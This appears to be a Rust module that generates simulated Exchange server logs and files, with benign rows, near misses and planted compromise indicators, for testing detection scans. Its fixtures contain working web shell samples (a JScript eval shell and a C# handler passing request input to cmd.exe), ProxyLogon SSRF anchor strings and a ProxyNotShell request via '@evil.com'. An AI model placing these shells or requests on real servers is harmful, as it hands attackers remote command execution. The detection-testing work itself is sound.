//! The logs and files the indicator scans read, for a simulated Exchange
//! 2013 or later host: benign traffic on every host, near misses of every indicator on every
//! host (rows the reference's conditions exclude), and the indicators the host's `Ioc*` faults
//! plant. Written by this project, not copied from any server's logs.
//!
//! Formats as the reference states them. Where it marks a detail unverified, its stated
//! assumption is followed: the CSV logs (HttpProxy, ECP server, OAB generator) start with their
//! column header, then `#Software`, `#Version`, `#Log-type`, `#Date` and `#Fields` lines, values
//! holding a comma are double-quoted, `DateTime` is ISO 8601 UTC with a `Z`. The ECP server and
//! OAB generator logs' columns and file names are not given by the reference at all: they are
//! written in the same CSV shape with a `DateTime` first column (an assumption). Rotation names
//! follow Exchange's `<Prefix><yyyyMMddHH>-<n>.LOG`; IIS logs are W3C extended
//! (`#Fields:` directives, space-separated) named `u_ex<yyMMdd>.log`.

use rand::{Rng, SeedableRng};
use rand_chacha::ChaCha8Rng;

use super::{Fault, HostSpec};

/// The address behind the CVE-2021-26855 plants (on two hosts: one campaign).
pub const ATTACKER_SSRF: &str = "203.0.113.66";
/// The address behind the CVE-2021-27065 plant.
pub const ATTACKER_ECP: &str = "198.51.100.23";
/// The address behind the CVE-2022-41040 plant.
pub const ATTACKER_NOTSHELL: &str = "192.0.2.41";
/// When the planted activity begins (2026-11-10 03:17 UTC).
pub const INCIDENT_MS: i64 = 1_794_280_620_000;
/// The provider of the CVE-2021-26857 events.
pub const UM_PROVIDER: &str = "MSExchange Unified Messaging";
/// The planted web shell, below the Default Web Site's root ([`HostSpec::web_root`]).
pub const WEB_SHELL: &str = r"aspnet_client\system_web\x5kqk2vc.aspx";
/// The planted handler shell (a generic handler runs code as a page does), below the install.
pub const HANDLER_SHELL: &str = r"FrontEnd\HttpProxy\owa\auth\h4vzq0ms.ashx";
/// The file CVE-2021-26858's plant says the OAB generator wrote.
pub const OAB_WRITTEN: &str = r"C:\inetpub\wwwroot\aspnet_client\discover.aspx";
/// The planted LSASS dump.
pub const LSASS_DUMP: &str = r"C:\root\lsass.dmp";
/// The planted archive.
pub const ARCHIVE: &str = r"C:\ProgramData\VSPerfMon\pm.7z";
/// The anchor mailbox of the CVE-2021-26855 plant.
pub const SSRF_ANCHOR: &str = "ServerInfo~a]@{host}:444/ecp/proxyLogon.ecp#";
/// The anchor mailbox of the CVE-2021-27065 (a) plant.
pub const RESET_ANCHOR: &str = "ServerInfo~a]@{host}:444/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=x&schema=ResetOABVirtualDirectory#";

const MINUTE: i64 = 60_000;
const HOUR: i64 = 60 * MINUTE;

/// The HttpProxy log's columns (those the reference names, among Exchange's usual ones).
pub const PROXY_FIELDS: [&str; 24] = [
    "DateTime",
    "RequestId",
    "MajorVersion",
    "MinorVersion",
    "BuildVersion",
    "RevisionVersion",
    "ClientRequestId",
    "Protocol",
    "UrlHost",
    "UrlStem",
    "ProtocolAction",
    "AuthenticationType",
    "IsAuthenticated",
    "AuthenticatedUser",
    "AnchorMailbox",
    "UserAgent",
    "ClientIpAddress",
    "ServerHostName",
    "HttpStatus",
    "Method",
    "TargetServer",
    "RoutingHint",
    "TotalRequestTime",
    "UrlQuery",
];

/// One request of an HttpProxy log.
#[derive(Debug, Clone, Default)]
pub struct ProxyRow {
    /// UTC ms.
    pub time_ms: i64,
    /// Protocol folder (`Owa`, `Ecp`, ...).
    pub protocol: String,
    /// UrlStem.
    pub url_stem: String,
    /// AuthenticatedUser.
    pub user: String,
    /// AnchorMailbox.
    pub anchor: String,
    /// UserAgent.
    pub user_agent: String,
    /// ClientIpAddress.
    pub client_ip: String,
    /// HttpStatus.
    pub status: u16,
    /// Method.
    pub method: String,
}

/// ISO 8601 UTC with milliseconds and a `Z`, as these logs write `DateTime`.
pub fn iso(ms: i64) -> String {
    chrono::DateTime::from_timestamp_millis(ms)
        .unwrap_or_default()
        .format("%Y-%m-%dT%H:%M:%S%.3fZ")
        .to_string()
}

/// A CSV value, quoted when it holds a comma or a quote.
fn csv(v: &str) -> String {
    if v.contains([',', '"']) {
        format!("\"{}\"", v.replace('"', "\"\""))
    } else {
        v.to_string()
    }
}

/// The start of a CSV log: its header row, then the `#` metadata lines.
pub fn csv_head(fields: &[&str], log_type: &str, start_ms: i64) -> String {
    let header = fields.join(",");
    format!(
        "{header}\r\n#Software: Microsoft Exchange Server\r\n#Version: 15.02.1748.010\r\n\
         #Log-type: {log_type}\r\n#Date: {}\r\n#Fields: {header}\r\n",
        iso(start_ms)
    )
}

/// One line of an HttpProxy log, `n` making its request ids unique.
pub fn proxy_line(r: &ProxyRow, host: &str, n: u64) -> String {
    let values = [
        iso(r.time_ms),
        format!(
            "{:08x}-{:04x}-4{:03x}-8{:03x}-{:012x}",
            n,
            n & 0xffff,
            n & 0xfff,
            (n >> 3) & 0xfff,
            n.wrapping_mul(2654435761)
        ),
        "15".into(),
        "2".into(),
        "1748".into(),
        "10".into(),
        String::new(),
        r.protocol.clone(),
        host.to_string(),
        r.url_stem.clone(),
        String::new(),
        "Negotiate".into(),
        (!r.user.is_empty()).to_string(),
        r.user.clone(),
        r.anchor.clone(),
        r.user_agent.clone(),
        r.client_ip.clone(),
        host.to_uppercase(),
        r.status.to_string(),
        r.method.clone(),
        host.to_string(),
        r.anchor.clone(),
        "15".into(),
        "?ver=15.2&cmd=x".into(),
    ];
    let mut line = values.iter().map(|v| csv(v)).collect::<Vec<_>>().join(",");
    line.push_str("\r\n");
    line
}

const USER_AGENTS: [&str; 4] = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36",
    "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.17126; Pro)",
    "AirWatch Agent/23.10",
    "Apple-iPhone15C2/2101.5",
];

/// A benign request of `protocol`, or one of the near misses the reference excludes (the
/// server's own autodiscover and localhost traffic, a reset of a virtual directory from
/// localhost without the `#` end) when `near` says.
pub fn benign_row(
    rng: &mut impl Rng,
    protocol: &str,
    host: &str,
    time_ms: i64,
    near: u8,
) -> ProxyRow {
    let user = format!("CONTOSO\\user{:03}", rng.random_range(0..400));
    let mut r = ProxyRow {
        time_ms,
        protocol: protocol.to_string(),
        url_stem: format!("/{}/", protocol.to_lowercase()),
        user: user.clone(),
        anchor: format!("Smtp~user{:03}@contoso.com", rng.random_range(0..400)),
        user_agent: USER_AGENTS[rng.random_range(0..USER_AGENTS.len())].to_string(),
        client_ip: format!(
            "10.{}.{}.{}",
            rng.random_range(1..20),
            rng.random_range(0..255),
            rng.random_range(1..255)
        ),
        status: [200, 200, 200, 302, 401][rng.random_range(0..5)],
        method: ["GET", "POST"][rng.random_range(0..2)].to_string(),
    };
    match near {
        1 => r.anchor = format!("ServerInfo~{host}/autodiscover/autodiscover.xml"),
        2 => r.anchor = "ServerInfo~localhost:444/ecp/DDI/DDIService.svc/GetList".to_string(),
        3 => {
            r.anchor = "ServerInfo~localhost/ecp/DDI/DDIService.svc/SetObject?schema=ResetOABVirtualDirectory".into();
            r.status = 200;
        }
        _ => {}
    }
    r
}

/// A file of the simulated host: its Windows path, bytes, and last write time (UTC ms).
pub type File = (String, Vec<u8>, i64);

/// Every file the indicator scans read on `h` (none on Exchange 2010, which has no front end
/// logs of this kind).
pub fn files(h: &HostSpec, seed: u64) -> Vec<File> {
    if h.line.is_2010() {
        return Vec::new();
    }
    let mut rng = ChaCha8Rng::seed_from_u64(seed ^ name_hash(&h.name) ^ 0x10c);
    let install = h.install_path();
    let host = h.fqdn();
    let start = INCIDENT_MS - 3 * HOUR;
    let stamp = |ms: i64| {
        chrono::DateTime::from_timestamp_millis(ms)
            .unwrap_or_default()
            .format("%Y%m%d%H")
            .to_string()
    };
    let mut out = Vec::new();
    let mut n = 0u64;
    // HttpProxy: three protocols, two rotated files each.
    for protocol in ["Owa", "Ecp", "Autodiscover"] {
        for part in 1..=2 {
            let t0 = start + (part - 1) * 3 * HOUR;
            let mut text = csv_head(&PROXY_FIELDS, "HttpProxy Logs", t0);
            for i in 0..40 {
                n += 1;
                let near = if i % 10 == 3 {
                    (i / 10 % 3 + 1) as u8
                } else {
                    0
                };
                let r = benign_row(&mut rng, protocol, &host, t0 + i * MINUTE, near);
                text.push_str(&proxy_line(&r, &host, n));
                if part == 2 && i == 20 {
                    for plant in planted_proxy(h, protocol, &host) {
                        n += 1;
                        text.push_str(&proxy_line(&plant, &host, n));
                    }
                }
            }
            let path = format!(
                r"{install}Logging\HttpProxy\{protocol}\HttpProxy_{}-{part}.LOG",
                stamp(t0)
            );
            out.push((path, text.into_bytes(), t0 + 3 * HOUR));
        }
    }
    // ECP server log.
    let ecp_fields = [
        "DateTime",
        "RequestId",
        "ServerName",
        "User",
        "EventType",
        "GenericInfo",
    ];
    let mut ecp = csv_head(&ecp_fields, "ECP Server Log", start);
    let set = |t: i64, url: &str| {
        format!(
            "{},{:x},{},CONTOSO\\admin,Cmdlet,{}\r\n",
            iso(t),
            t,
            h.name,
            csv(&format!("S:CMD=Set-OabVirtualDirectory.ExternalUrl=''{url}''.Identity=''OAB (Default Web Site)'';S:TYPE=OabVirtualDirectory"))
        )
    };
    ecp.push_str(&set(start + 5 * MINUTE, "https://mail.contoso.com/OAB"));
    for i in 0..20 {
        ecp.push_str(&format!(
            "{},{:x},{},CONTOSO\\user{i:03},Request,S:Page=/ecp/default.aspx\r\n",
            iso(start + (10 + i) * MINUTE),
            i,
            h.name
        ));
    }
    if h.has(Fault::IocEcpWrite) {
        ecp.push_str(&set(INCIDENT_MS + 2 * MINUTE, r#"http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["klk123456"],"unsafe");}</script>"#));
    }
    out.push((
        format!(
            r"{install}Logging\ECP\Server\ECPServer{}-1.LOG",
            stamp(start)
        ),
        ecp.into_bytes(),
        INCIDENT_MS + HOUR,
    ));
    // OAB generator log.
    let oab_fields = ["DateTime", "Level", "Message"];
    let mut oab = csv_head(&oab_fields, "OAB Generator Log", start);
    let download = |t: i64, path: &str| {
        format!(
            "{},Warning,{}\r\n",
            iso(t),
            csv(&format!(
                "Download failed and temporary file '{path}' needs to be removed."
            ))
        )
    };
    oab.push_str(&download(
        start + 30 * MINUTE,
        &format!(
            r"{install}ClientAccess\OAB\Temp\oab-{}.tmp",
            rng.random_range(1000..9999)
        ),
    ));
    oab.push_str(&format!(
        "{},Info,OABGeneratorAssistant finished generating the OAB.\r\n",
        iso(start + 31 * MINUTE)
    ));
    if h.has(Fault::IocOabWrite) {
        oab.push_str(&download(INCIDENT_MS + 5 * MINUTE, OAB_WRITTEN));
    }
    out.push((
        format!(
            r"{install}Logging\OABGeneratorLog\OABGeneratorLog_{}-1.LOG",
            stamp(start)
        ),
        oab.into_bytes(),
        INCIDENT_MS + HOUR,
    ));
    // IIS.
    out.push((
        format!(
            r"C:\inetpub\logs\LogFiles\W3SVC1\u_ex{}.log",
            &stamp(start)[2..8]
        ),
        iis_log(h, &host, &mut rng, start).into_bytes(),
        INCIDENT_MS + HOUR,
    ));
    // The web folders' stock pages (the same on every server of a build), written when setup
    // installed the build (its update's InstalledDate, noon UTC; a CU alone: a month before the
    // logs), and the files the suspicious-file scan must leave alone.
    let build = super::builds::text(h.exsetup_build);
    let installed = h
        .update
        .and_then(|i| chrono::NaiveDate::parse_from_str(h.line.updates[i].3, "%m/%d/%Y").ok())
        .and_then(|d| d.and_hms_opt(12, 0, 0))
        .map(|t| t.and_utc().timestamp_millis())
        .unwrap_or(start - 30 * 24 * HOUR);
    for (folder, page) in [
        (r"FrontEnd\HttpProxy\owa\auth", "logon.aspx"),
        (r"FrontEnd\HttpProxy\owa\auth", "errorFE.aspx"),
        (r"FrontEnd\HttpProxy\ecp\auth", "TimeoutLogout.aspx"),
    ] {
        let body = format!("<%@ Page Language=\"C#\" Inherits=\"Microsoft.Exchange.HttpProxy.{page}\" %>\r\n<!-- Exchange {build} -->\r\n");
        out.push((
            format!(r"{install}{folder}\{page}"),
            body.into_bytes(),
            installed,
        ));
    }
    // Where the Default Web Site's root is, the stock aspnet_client file, the same on every
    // server (so no outlier wherever the root is); in owa\auth a script the host's admins
    // added after the install, on this server only: not a file IIS runs, so not listed.
    out.push((
        format!(
            r"{}\aspnet_client\system_web\4_0_30319\readme.txt",
            h.web_root()
        ),
        b"ASP.NET client files\r\n".to_vec(),
        start,
    ));
    out.push((
        format!(
            r"{install}FrontEnd\HttpProxy\owa\auth\custom-{}.js",
            h.name.to_lowercase()
        ),
        format!("/* {} sign-in banner */\r\n", h.name).into_bytes(),
        start,
    ));
    out.push((
        r"C:\Windows\Temp\lsass-notes.txt".into(),
        b"not a dump\r\n".to_vec(),
        start,
    ));
    out.push((
        r"C:\ProgramData\Microsoft\Exchange\diag.cab".into(),
        b"MSCF".to_vec(),
        start,
    ));
    if h.has(Fault::IocWebShell) {
        let shell = "<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"p\"],\"unsafe\");%>\r\n";
        out.push((
            format!(r"{}\{WEB_SHELL}", h.web_root()),
            shell.as_bytes().to_vec(),
            INCIDENT_MS + 10 * MINUTE,
        ));
        let handler = "<%@ WebHandler Language=\"C#\" Class=\"H\" %>\r\nusing System.Web; public class H : IHttpHandler { public bool IsReusable { get { return false; } } public void ProcessRequest(HttpContext c) { System.Diagnostics.Process.Start(\"cmd.exe\", \"/c \" + c.Request[\"c\"]); } }\r\n";
        out.push((
            format!("{install}{HANDLER_SHELL}"),
            handler.as_bytes().to_vec(),
            INCIDENT_MS + 12 * MINUTE,
        ));
    }
    if h.has(Fault::IocLsassDump) {
        out.push((
            LSASS_DUMP.into(),
            b"MDMP\x93\xa7".to_vec(),
            INCIDENT_MS + 20 * MINUTE,
        ));
    }
    if h.has(Fault::IocArchive) {
        out.push((
            ARCHIVE.into(),
            b"7z\xbc\xaf\x27\x1c".to_vec(),
            INCIDENT_MS + 30 * MINUTE,
        ));
    }
    out
}

/// The HttpProxy rows `h`'s faults plant in a protocol's log.
fn planted_proxy(h: &HostSpec, protocol: &str, host: &str) -> Vec<ProxyRow> {
    let row = |anchor: String, ip: &str, stem: &str| ProxyRow {
        time_ms: INCIDENT_MS,
        protocol: protocol.to_string(),
        url_stem: stem.to_string(),
        user: String::new(),
        anchor,
        user_agent: "ExchangeServicesClient/0.0.0.0".into(),
        client_ip: ip.into(),
        status: 200,
        method: "POST".into(),
    };
    let mut out = Vec::new();
    if h.has(Fault::IocSsrf) && protocol == "Owa" {
        out.push(row(
            SSRF_ANCHOR.replace("{host}", host),
            ATTACKER_SSRF,
            "/owa/auth/x.js",
        ));
    }
    if h.has(Fault::IocEcpWrite) && protocol == "Ecp" {
        out.push(row(
            RESET_ANCHOR.replace("{host}", host),
            ATTACKER_ECP,
            "/ecp/y.js",
        ));
    }
    out
}

/// The IIS log of the front end site: benign requests, Autodiscover v2 traffic, the
/// ProxyNotShell request refused by the EOMTv2 rule (403: the near miss), and the planted hit.
fn iis_log(h: &HostSpec, host: &str, rng: &mut impl Rng, start: i64) -> String {
    let fields = "date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken";
    let when = |ms: i64| {
        chrono::DateTime::from_timestamp_millis(ms)
            .unwrap_or_default()
            .format("%Y-%m-%d %H:%M:%S")
            .to_string()
    };
    let mut s = format!(
        "#Software: Microsoft Internet Information Services 10.0\r\n#Version: 1.0\r\n#Date: {}\r\n#Fields: {fields}\r\n",
        when(start)
    );
    let line = |t: i64, stem: &str, query: &str, user: &str, ip: &str, ua: &str, status: u16| {
        format!(
            "{} 10.0.0.5 GET {stem} {query} 443 {user} {ip} {ua} - {status} 0 0 {}\r\n",
            when(t),
            5 + t % 97
        )
    };
    for i in 0..30 {
        let ip = format!(
            "10.{}.{}.{}",
            rng.random_range(1..20),
            rng.random_range(0..255),
            rng.random_range(1..255)
        );
        let t = start + i * MINUTE;
        s.push_str(&line(
            t,
            "/owa/",
            "-",
            &format!("CONTOSO\\user{i:03}"),
            &ip,
            "Mozilla/5.0+(Windows+NT+10.0)",
            200,
        ));
        if i % 10 == 4 {
            s.push_str(&line(
                t,
                "/autodiscover/autodiscover.json",
                &format!("Email=user{i:03}@contoso.com&Protocol=ActiveSync&RedirectCount=1"),
                "-",
                &ip,
                "Outlook-iOS/723.4027091.prod.iphone",
                200,
            ));
        }
    }
    let notshell = |t: i64, ip: &str, status: u16| {
        line(t, "/autodiscover/autodiscover.json", "@evil.com/powershell/?X-Rps-CAT=VgEAVAdXaW5kb3dz&Email=autodiscover/autodiscover.json%3F@evil.com", "-", ip, "python-requests/2.28.1", status)
    };
    // A restart writes the directives again.
    s.push_str(&format!("#Software: Microsoft Internet Information Services 10.0\r\n#Version: 1.0\r\n#Date: {}\r\n#Fields: {fields}\r\n", when(start + HOUR)));
    s.push_str(&notshell(start + HOUR + MINUTE, "192.0.2.77", 403));
    let _ = host;
    if h.has(Fault::IocNotShell) {
        s.push_str(&notshell(INCIDENT_MS + 7 * MINUTE, ATTACKER_NOTSHELL, 200));
    }
    s
}

/// The MSExchange Unified Messaging events of `h`'s Application log: a warning and an error
/// without the exception on every Exchange 2013 or later host (near misses), and the error
/// carrying `System.InvalidCastException` on a host with the CVE-2021-26857 fault:
/// `(level, time, message)`.
pub fn um_events(h: &HostSpec) -> Vec<(u8, i64, String)> {
    if h.line.is_2010() {
        return Vec::new();
    }
    let mut out = vec![
        (3, INCIDENT_MS - 2 * HOUR, "The Unified Messaging call router could not handle a call: System.InvalidCastException: Unable to cast object (a warning).".to_string()),
        (2, INCIDENT_MS - HOUR, "The Unified Messaging service could not process a request: System.TimeoutException.".to_string()),
    ];
    if h.has(Fault::IocUmDeserialization) {
        out.push((2, INCIDENT_MS + 4 * MINUTE, "An unhandled exception occurred in a UM worker process: System.InvalidCastException: Unable to cast object of type 'System.Object' to type 'Microsoft.Exchange.UM.UMCore.PipelineContext'.".to_string()));
    }
    out
}

fn name_hash(name: &str) -> u64 {
    name.bytes().fold(0xcbf29ce484222325u64, |h, b| {
        (h ^ b as u64).wrapping_mul(0x100000001b3)
    })
}
